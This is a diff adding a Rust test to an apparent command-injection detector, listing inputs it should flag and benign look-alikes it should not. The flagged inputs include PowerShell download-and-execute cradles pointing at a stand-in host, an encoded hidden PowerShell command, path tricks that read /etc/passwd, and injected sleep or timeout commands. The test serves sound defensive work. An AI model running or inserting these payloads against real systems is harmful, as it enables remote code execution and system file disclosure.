@@ -2283,3 +2283,32 @@ fn shell_reads_raw_query_values_only_through_their_decoded_view() {
         ],
     );
 }
+
+#[test]
+fn powershell_cradles_substring_expansions_and_windows_delays() {
+    table(
+        "cmdi",
+        Q,
+        &[
+            "powershell IEX(New-Object Net.WebClient).DownloadString('http://x.example/p.ps1')",
+            "(New-Object System.Net.WebClient).DownloadFile('http://x.example/a.exe','a.exe')",
+            "iex (iwr http://x.example/a)",
+            "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+            "${PATH:0:1}etc${PATH:0:1}passwd",
+            "cat ${HOME:0:1}etc${HOME:0:1}hosts",
+            "|timeout /T 5",
+            "& timeout 5",
+            "; sleep 10 #",
+        ],
+        &[
+            "How do I download a file in PowerShell?",
+            "powershell is installed on the build agents",
+            "the index (iex) of the table",
+            "${user.name} signed in",
+            "${server.port:8080}",
+            "timeout 5 minutes",
+            "a timeout /T",
+            "sleep 10 hours a night #health",
+        ],
+    );
+}
